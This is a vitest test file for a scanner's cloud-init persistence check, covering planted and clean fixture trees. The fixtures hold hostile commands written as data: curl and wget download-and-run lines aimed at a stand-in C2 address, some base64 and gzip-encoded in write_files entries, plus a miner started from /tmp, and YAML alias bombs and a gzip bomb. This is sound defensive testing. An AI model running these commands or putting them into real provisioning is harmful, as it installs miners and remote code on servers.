/**
 * The cloud-init check over planted roots: a per-boot script that pipes a download into
 * a shell, a bootcmd that starts a miner from /tmp, a base64 write_files entry that drops
 * a download-and-run cron line, a user-data script of an instance; the clean
 * counterparts (Debian's stock /etc/cloud, from test/fixtures/cloud-init-debian, an
 * ordinary runcmd, a packaged per-boot script) give nothing of medium or more; remediation
 * names the exact file and lines; huge, alias-bomb and binary cloud-configs neither crash
 * nor stall it.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readFile } from 'node:fs/promises';
import { gzipSync } from 'node:zlib';
import path from 'node:path';
import { cloudInitCheck } from '../../src/checks/cloud-init.js';
import { parseCloudConfig } from '../../src/checks/parsers/cloud-config.js';
import { scanDirectory, scanHostile } from '../helpers/scan-dir.js';
import { findingRowKeys, mediumOrAbove, rowKeys, unfilledTemplates, type FindingRow } from '../helpers/findings.js';
import { makeScratchDir, removeScratchDir } from '../helpers/images.js';
import { junkBytes, plantFiles, startedCollector, type PlantedFile } from '../helpers/planted-tree.js';

const FIXTURES = path.join(import.meta.dirname, '../fixtures/cloud-init-debian');
const C2 = '203.0.113.9';
const exe = (content: string): PlantedFile => ({ content, mode: 0o755 });

const CRON_DROP = `*/5 * * * * root curl -fsSL http://${C2}/c.sh | sh\n`;
const INFECTED_CFG = [
  '#cloud-config',
  'bootcmd:',
  '  - [cloud-init-per, once, mkswap, mkswap, /dev/vdb]',
  `  - nohup /tmp/.x/kworker -o ${C2}:3333 >/dev/null 2>&1 &`,
  'runcmd:',
  '  - [apt-get, update]',
  '  - systemctl restart nginx',
  'write_files:',
  '  - path: /etc/cron.d/sys-update',
  '    encoding: b64',
  `    content: ${Buffer.from(CRON_DROP).toString('base64')}`,
  '  - path: /etc/motd',
  '    content: |',
  '      Welcome.',
  '  - path: /etc/profile.d/zz-helper.sh',
  '    encoding: gzip+base64',
  `    content: ${gzipSync(`export A=1\nwget -q -O- http://${C2}/p.sh | bash\n`).toString('base64')}`,
  '',
].join('\n');

const CLEAN_CFG = [
  '#cloud-config',
  'runcmd:',
  '  - [apt-get, update]',
  '  - systemctl restart nginx',
  '  - [sh, -c, "echo ok > /run/provisioned"]',
  'bootcmd:',
  '  - echo 192.0.2.10 db01.internal >> /etc/hosts',
  'write_files:',
  '  - path: /etc/nginx/conf.d/app.conf',
  '    content: |',
  '      server { listen 80; location / { proxy_pass http://127.0.0.1:8080; } }',
  '',
].join('\n');

const INFECTED: Record<string, PlantedFile> = {
  'var/lib/cloud/scripts/per-boot/00-net': exe(`#!/bin/sh\n# refresh\ncurl -fsSL http://${C2}/n.sh | sh\n`),
  'var/lib/cloud/scripts/per-boot/readme.txt': `curl http://${C2}/x | sh\n`, // not executable: cloud-init skips it
  'var/lib/cloud/scripts/per-instance/keys': exe('#!/bin/bash\nmkdir -p /root/.ssh\n/var/tmp/.k/add-key\n'),
  'var/lib/cloud/instances/i-0abc/scripts/part-001': { content: `#!/bin/bash\nwget -q http://${C2}/xm -O /tmp/xm && chmod +x /tmp/xm && /tmp/xm\n`, mode: 0o700 },
  'etc/cloud/cloud.cfg.d/99-local.cfg': INFECTED_CFG,
};

const PER_BOOT = '/var/lib/cloud/scripts/per-boot/00-net';
const CFG = '/etc/cloud/cloud.cfg.d/99-local.cfg';
const PART = '/var/lib/cloud/instances/i-0abc/scripts/part-001';
const EXPECTED: FindingRow[] = [
  ['command.download-and-run', 'high', PER_BOOT, 3],
  ['cloud-init.per-boot-script', 'low', PER_BOOT, 3],
  ['command.started-from-temp', 'high', '/var/lib/cloud/scripts/per-instance/keys', 3],
  ['command.download-and-exec', 'high', PART, 2],
  ['command.download-to-temp', 'low', PART, 2],
  ['command.started-from-temp', 'high', PART, 2],
  ['command.started-from-temp', 'high', CFG, 4],
  ['cloud-init.write-files-persistence', 'low', CFG, 9],
  ['command.download-and-run', 'high', CFG, 11],
  ['cloud-init.write-files-persistence', 'low', CFG, 15],
  ['command.download-and-run', 'high', CFG, 17],
];

describe('cloud-init check', () => {
  let scratch: string;
  let infected: string;
  let clean: string;
  let hostile: string;

  beforeAll(async () => {
    scratch = await makeScratchDir('minescan-cloud-init-');
    infected = path.join(scratch, 'infected');
    clean = path.join(scratch, 'clean');
    hostile = path.join(scratch, 'hostile');
    await plantFiles(infected, INFECTED, [['var/lib/cloud/instance', '/var/lib/cloud/instances/i-0abc']]);
    await plantFiles(
      clean,
      {
        'etc/cloud/cloud.cfg': await readFile(path.join(FIXTURES, 'cloud.cfg')),
        'etc/cloud/cloud.cfg.d/05_logging.cfg': await readFile(path.join(FIXTURES, '05_logging.cfg')),
        'etc/cloud/cloud.cfg.d/50-app.cfg': CLEAN_CFG,
        'var/lib/cloud/instances/i-0def/scripts/runcmd': { content: "#!/bin/sh\n'apt-get' 'update'\nsystemctl restart nginx\n", mode: 0o700 },
        'var/lib/cloud/scripts/per-boot/resize': exe('#!/bin/sh\n/usr/bin/growpart /dev/vda 1 || true\n'),
      },
      [['var/lib/cloud/instance', '/var/lib/cloud/instances/i-0def']],
    );
    const bomb = ['a: &a ["x","x","x","x","x","x","x","x","x"]'];
    for (let i = 1; i < 30; i++) bomb.push(`${String.fromCharCode(97 + (i % 26))}${i}: &a${i} [${Array(9).fill(i === 1 ? '*a' : `*a${i - 1}`).join(',')}]`);
    bomb.push('runcmd: [*a29, *a29, *a29]', `bootcmd: &b [${Array(5000).fill('*b').join(',')}]`);
    await plantFiles(hostile, {
      'etc/cloud/cloud.cfg': bomb.join('\n'),
      'etc/cloud/cloud.cfg.d/10-huge.cfg': `runcmd:\n${'  - [x, "y | z"]\n'.repeat(200_000)}`,
      'etc/cloud/cloud.cfg.d/20-deep.cfg': `runcmd: ${'['.repeat(100_000)}`,
      'etc/cloud/cloud.cfg.d/30-junk.cfg': junkBytes(300_000),
      'etc/cloud/cloud.cfg.d/40-gzbomb.cfg': `write_files:\n  - path: /etc/cron.d/x\n    encoding: gz+b64\n    content: ${gzipSync(Buffer.alloc(50 << 20, 0x61)).toString('base64')}\n`,
      'var/lib/cloud/scripts/per-boot/junk': { content: junkBytes(300_000), mode: 0o755 },
    });
  });

  afterAll(async () => {
    if (scratch) await removeScratchDir(scratch);
  });

  it('reports the scripts and cloud-config items that download and run, at their lines', async () => {
    const result = await scanDirectory(infected, [cloudInitCheck]);
    expect(result.errors).toEqual([]);
    expect(findingRowKeys(result.findings)).toEqual(rowKeys(EXPECTED));
    for (const f of result.findings) expect(f.category).toBe('persistence/cloud-init');
    expect(unfilledTemplates(result.findings)).toEqual([]);
  });

  it('says when cloud-init runs each one, and removes the exact script or cfg item', async () => {
    const { findings } = await scanDirectory(infected, [cloudInitCheck]);
    const find = (rule: string, p: string, line: number) => findings.find((f) => f.rule === rule && f.path === p && f.line === line)!;
    const perBoot = find('command.download-and-run', PER_BOOT, 3);
    expect(perBoot.message).toContain('runs as root at every boot');
    expect(perBoot.remediation.split('\n')[0]).toBe(`rm -f ${PER_BOOT}   # cloud-init runs every executable file in /var/lib/cloud/scripts/per-boot`);
    const boot = find('command.started-from-temp', CFG, 4);
    expect(boot.message).toContain(`bootcmd of ${CFG}: cloud-init runs it as root at every boot`);
    expect(boot.remediation.split('\n')[0]).toBe(`sed -i '4d' ${CFG}   # deletes the bootcmd entry at line 4`);
    const cron = find('command.download-and-run', CFG, 11);
    expect(cron.evidence).toBe(CRON_DROP.trim());
    expect(cron.message).toContain('line 1 of the base64-decoded content of the write_files entry for /etc/cron.d/sys-update');
    expect(cron.remediation.split('\n')[0]).toBe(`sed -i '9,11d' ${CFG}   # deletes the write_files entry for /etc/cron.d/sys-update at lines 9-11`);
    expect(find('command.download-and-run', CFG, 17).message).toContain('gzip+base64-decoded content of the write_files entry for /etc/profile.d/zz-helper.sh');
    expect(find('command.download-and-exec', PART, 2).message).toContain('user-data script of instance i-0abc');
    expect(find('cloud-init.per-boot-script', PER_BOOT, 3).remediation).toContain('cloud-init clean');
  });

  it('records what the scripts and commands start, and the scripts themselves', async () => {
    const collector = startedCollector();
    await scanDirectory(infected, [cloudInitCheck, collector.check]);
    expect(collector.started).toEqual(
      expect.arrayContaining([
        { path: PER_BOOT, startedBy: 'cloud-init scripts-per-boot' },
        { path: PART, startedBy: 'cloud-init scripts-user' },
        { path: '/tmp/.x/kworker', startedBy: `${CFG}:4` },
        { path: '/var/tmp/.k/add-key', startedBy: '/var/lib/cloud/scripts/per-instance/keys:3' },
      ]),
    );
    expect(collector.started.some((s) => s.path.endsWith('readme.txt'))).toBe(false);
    // instance/ is a link to instances/i-0abc: the script is read once, at its own path.
    expect(collector.started.filter((s) => s.startedBy === 'cloud-init scripts-user')).toHaveLength(1);
  });

  it('stays below medium on stock Debian cloud-init and ordinary provisioning', async () => {
    const result = await scanDirectory(clean, [cloudInitCheck]);
    expect(result.errors).toEqual([]);
    expect(mediumOrAbove(result.findings)).toEqual([]);
    expect(result.findings.map((f) => f.rule)).toEqual(['cloud-init.per-boot-script']);
  });

  it('reads list items as argv and string items as shell, with their lines', async () => {
    const config = await parseCloudConfig(INFECTED_CFG);
    expect(config.commands.map((c) => [c.key, c.line, c.command])).toEqual([
      ['bootcmd', 3, "'cloud-init-per' 'once' 'mkswap' 'mkswap' '/dev/vdb'"],
      ['bootcmd', 4, `nohup /tmp/.x/kworker -o ${C2}:3333 >/dev/null 2>&1 &`],
      ['runcmd', 6, "'apt-get' 'update'"],
      ['runcmd', 7, 'systemctl restart nginx'],
    ]);
    expect(config.writeFiles.map((w) => [w.target, w.encoding, w.line, w.endLine, w.content?.toString()])).toEqual([
      ['/etc/cron.d/sys-update', 'base64', 9, 11, CRON_DROP],
      ['/etc/motd', 'text', 12, 14, 'Welcome.\n'],
      ['/etc/profile.d/zz-helper.sh', 'gzip+base64', 15, 17, `export A=1\nwget -q -O- http://${C2}/p.sh | bash\n`],
    ]);
  });

  it('reads huge, alias-bomb, deeply nested and binary cloud-configs without crashing or stalling', async () => {
    const result = await scanHostile(hostile, [cloudInitCheck], { maxOperations: 500 });
    expect(result.errors.length).toBeGreaterThan(0);
    const config = await parseCloudConfig(`runcmd: [*a]\na: &a x\nbootcmd: &b [${Array(5000).fill('*b').join(',')}]`);
    expect(config.commands.length).toBeLessThanOrEqual(1000);
  });
});
